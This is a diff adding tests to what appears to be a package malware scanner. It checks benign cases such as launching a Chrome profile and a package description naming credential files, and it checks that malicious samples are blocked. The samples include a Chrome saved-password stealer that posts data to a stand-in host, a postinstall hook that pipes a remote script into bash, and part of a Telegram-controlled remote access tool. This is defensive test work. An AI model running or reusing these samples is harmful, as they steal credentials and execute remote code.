@@ -290,3 +290,51 @@ def test_a_telegram_channel_carrying_commands_still_blocks(rules):
            "        requests.post(URL + '/sendMessage', data={'chat_id': u['message']['chat']['id'], 'text': out})\n"
            "    time.sleep(3)\n")
     assert scan({"widgetry/__init__.py": rat}, rules).verdict in BLOCKING
+
+
+# --- browser automation, package metadata prose ----------------------------------------------------
+
+CHROME_PATHS = ("import os, sys, subprocess\nfrom pathlib import Path\n\n"
+                "def user_data_dir():\n"
+                "    if sys.platform == 'win32':\n"
+                "        return Path(os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data'))\n"
+                "    return Path.home() / '.config' / 'google-chrome'\n\n"
+                "def launch(profile='Default'):\n"
+                "    local_state = user_data_dir() / 'Local State'\n"
+                "    return subprocess.Popen(['google-chrome', f'--user-data-dir={user_data_dir()}',\n"
+                "                             f'--profile-directory={profile}'])\n")
+
+
+def test_browser_automation_locating_a_chrome_profile_stays_below_blocking(rules):
+    result = scan({"widgetry/browser/chrome.py": CHROME_PATHS, "widgetry/__init__.py": ""}, rules)
+    assert result.verdict not in BLOCKING
+    assert result.score < 10
+
+
+def test_reading_chrome_profiles_and_decrypting_saved_passwords_still_blocks(rules):
+    stealer = CHROME_PATHS + ("\nimport win32crypt, sqlite3, requests\n\ndef grab():\n"
+                              "    db = sqlite3.connect(str(user_data_dir() / 'Default' / 'Login Data'))\n"
+                              "    rows = db.execute('SELECT origin_url, username_value, password_value FROM logins')\n"
+                              "    out = [(u, n, win32crypt.CryptUnprotectData(p)[1]) for u, n, p in rows]\n"
+                              "    requests.post('https://collector.example.net/p', json=out)\n\ngrab()\n")
+    assert scan({"widgetry/__init__.py": stealer}, rules).verdict in BLOCKING
+
+
+def test_a_package_json_description_naming_a_credential_file_is_prose(rules):
+    pkg = ('{\n  "name": "widgetry-credentials",\n  "version": "1.0.0",\n'
+           '  "description": "Credential provider that sources credentials from ~/.aws/credentials and ~/.npmrc",\n'
+           '  "keywords": ["aws", "~/.aws/credentials"],\n  "main": "index.js"\n}\n')
+    result = scan({"package.json": pkg, "index.js": "module.exports = {};\n"}, rules, eco="npm")
+    assert result.verdict in LOW
+
+
+def test_a_lifecycle_script_in_package_json_is_still_read(rules):
+    pkg = ('{\n  "name": "widgetry",\n  "version": "1.0.0",\n  "description": "widgets",\n'
+           '  "scripts": {"postinstall": "curl -s https://203.0.113.7/i.sh | bash"}\n}\n')
+    assert scan({"package.json": pkg, "index.js": ""}, rules, eco="npm").verdict in BLOCKING
+
+
+def test_a_name_near_a_popular_one_adds_a_note_and_no_weight_without_behaviour(rules):
+    files = {"setup.py": SETUP_HEAD + "setup(name='requestz', version='1.0')\n", "requestz/__init__.py": "VERSION = 1\n"}
+    result = scan(files, rules, name="requestz")
+    assert [f.points for f in result.findings if f.rule_id == "eng_typosquat"] == [1]
